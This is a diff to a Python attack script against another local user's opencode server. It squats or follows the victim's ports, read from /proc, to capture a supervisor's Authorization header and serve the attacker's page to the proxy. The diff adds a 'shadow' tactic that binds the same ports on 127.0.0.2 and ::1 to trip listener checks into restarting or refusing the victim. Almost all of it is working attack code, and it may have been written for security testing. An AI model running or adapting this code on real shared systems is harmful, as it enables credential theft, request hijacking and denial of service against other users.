@@ -4,6 +4,9 @@ opencode credentials and requests by taking its port.
 
 - Squat: any `opencode serve --port N` (N != 0) of another uid seen in /proc is bound at
   once, before opencode can, to catch PID 1's first health probe (and its Authorization).
+- Shadow: for each port the victim listens on, bind the same port on 127.0.0.2 and on [::1]
+  (IPv6 only): sockets a connection to 127.0.0.1 never reaches, but that a careless check of
+  "every listener on the port" would count against the victim (and restart or refuse her).
 - Follow: ports the victim uid listens on (from /proc/net/tcp) are remembered; the moment one
   is free (opencode stopped or killed), it is bound, to catch the proxy's next request for the
   victim and answer it with the attacker's page.
@@ -22,6 +25,7 @@ me = os.getuid()
 log = open(log_path, "a", buffering=1)
 held = {}  # port -> listening socket
 known = set()
+shadows = []
 
 
 def say(msg):
@@ -29,12 +33,13 @@ def say(msg):
 
 
 def listeners():
+    """port -> uid of the IPv4 127.0.0.1 / 0.0.0.0 listeners (the ones that matter)."""
     out = {}
-    for f in ("/proc/net/tcp", "/proc/net/tcp6"):
+    for f in ("/proc/net/tcp",):
         try:
             for line in open(f).read().splitlines()[1:]:
                 c = line.split()
-                if len(c) > 9 and c[3] == "0A":
+                if len(c) > 9 and c[3] == "0A" and c[1].split(":")[0] in ("0100007F", "00000000"):
                     out[int(c[1].rsplit(":", 1)[1], 16)] = int(c[7])
         except OSError:
             pass
@@ -105,10 +110,23 @@ while time.time() < end:
                 grab(port, f"squat pid {pid}")
     now = listeners()
     for port, uid in now.items():
-        if uid == victim:
+        if uid == victim and port not in known:
             known.add(port)
+            for fam, addr in ((socket.AF_INET, "127.0.0.2"), (socket.AF_INET6, "::1")):
+                sh = socket.socket(fam, socket.SOCK_STREAM)
+                if fam == socket.AF_INET6:
+                    sh.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+                try:
+                    sh.bind((addr, port))
+                    sh.listen(4)
+                    shadows.append(sh)
+                    say(f"SHADOW {addr} {port}")
+                except OSError as e:
+                    say(f"no shadow {addr} {port}: {e}")
+                    sh.close()
+    victims = {port for port, uid in now.items() if uid == victim}
     for port in list(known):
-        if port not in now:
+        if port not in victims:
             grab(port, "follow")
     if held:
         ready, _, _ = select.select(list(held.values()), [], [], 0.002)
